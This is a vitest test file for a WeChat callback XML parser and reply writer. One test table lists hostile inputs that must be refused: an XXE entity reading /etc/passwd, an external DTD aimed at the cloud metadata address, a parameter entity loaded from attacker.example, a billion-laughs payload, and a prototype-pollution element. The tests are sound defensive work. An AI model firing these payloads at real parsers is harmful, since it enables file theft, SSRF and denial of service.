import { describe, expect, it } from 'vitest'
import { cdata, decodeUtf8, field, parseCallbackXml, sealedReplyXml, textReplyXml, XmlRefused } from './xml.js'

const text = (content: string) => `<xml><ToUserName><![CDATA[gh_1]]></ToUserName><FromUserName><![CDATA[oUser]]></FromUserName><CreateTime>1712052000</CreateTime><MsgType><![CDATA[text]]></MsgType><Content>${content}</Content><MsgId>18446744073709551615</MsgId></xml>`

describe('reading callback XML', () => {
  it('keeps every value a string, so a 64-bit MsgId keeps all its digits', () => {
    const record = parseCallbackXml(text('<![CDATA[hi]]>'))
    expect(record).toMatchObject({ ToUserName: 'gh_1', CreateTime: '1712052000', MsgId: '18446744073709551615', Content: 'hi' })
  })

  it('joins a CDATA section split around "]]>" back into the text that was sent', () => {
    expect(field(parseCallbackXml(text(cdata('a ]]> b ]]>'))), 'Content')).toBe('a ]]> b ]]>')
  })

  it('leaves entity references as written: nothing is expanded, not even &amp;', () => {
    expect(field(parseCallbackXml(text('x &amp; y &#60; &lt;')), 'Content')).toBe('x &amp; y &#60; &lt;')
  })

  it('takes an XML declaration and whitespace between fields', () => {
    expect(parseCallbackXml('<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n  <A>1</A>\n</xml>\n')).toEqual({ A: '1' })
  })

  it.each([
    ['XXE: an external entity', '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>'],
    ['an external DTD', '<!DOCTYPE xml SYSTEM "http://169.254.169.254/latest/meta-data/"><xml/>'],
    ['a parameter entity', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>'],
    ['billion laughs', `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><xml><C>&lol9;</C></xml>`],
    ['a lower-case doctype', '<!doctype xml><xml/>'],
    ['an entity declaration without a doctype', '<xml><!ENTITY a "b"></xml>'],
    ['an unclosed tag', '<xml><Content>hi</xml>'],
    ['truncated XML', text('<![CDATA[hi]]>').slice(0, 60)],
    ['JSON', '{"ToUserName":"gh_1"}'],
    ['another root', '<message><Content>hi</Content></message>'],
    ['two roots', '<xml><A>1</A></xml><xml><A>2</A></xml>'],
    ['nesting deeper than any WeChat message', `<xml>${'<a>'.repeat(50)}${'</a>'.repeat(50)}</xml>`],
    ['an empty body', ''],
    ['a prototype-polluting element', '<xml><__proto__><polluted>1</polluted></__proto__></xml>'],
  ])('refuses %s before anything is expanded', (_name, xml) => {
    expect(() => parseCallbackXml(xml)).toThrow(XmlRefused)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })

  it('refuses bytes that are not UTF-8 rather than replacing them', () => {
    expect(() => decodeUtf8(Buffer.from('<xml><Content>caf\xe9</Content></xml>', 'latin1'))).toThrow(XmlRefused)
    expect(decodeUtf8(Buffer.from(text('<![CDATA[café 你好 🙂]]>')))).toContain('café 你好 🙂')
  })

  it('reads a repeated field as absent rather than picking one', () => {
    expect(field(parseCallbackXml('<xml><A>1</A><A>2</A></xml>'), 'A')).toBeUndefined()
  })
})

describe('writing passive replies', () => {
  it('swaps To and From and keeps any text intact through CDATA, "]]>" and controls included', () => {
    const content = '您好 <b>&amp; ]]> ok\u0001\ud800'
    const xml = textReplyXml({ to: 'oUser', from: 'gh_1', createTime: 1712052001, content })
    const record = parseCallbackXml(xml)
    expect(record).toEqual({ ToUserName: 'oUser', FromUserName: 'gh_1', CreateTime: '1712052001', MsgType: 'text', Content: '您好 <b>&amp; ]]> ok\uFFFD\uFFFD' })
  })

  it('wraps an encrypted reply in WeChat’s envelope', () => {
    const xml = sealedReplyXml({ encrypt: 'abc+/=', signature: 'f'.repeat(40), timestamp: '1712052001', nonce: '12345' })
    expect(parseCallbackXml(xml)).toEqual({ Encrypt: 'abc+/=', MsgSignature: 'f'.repeat(40), TimeStamp: '1712052001', Nonce: '12345' })
  })
})
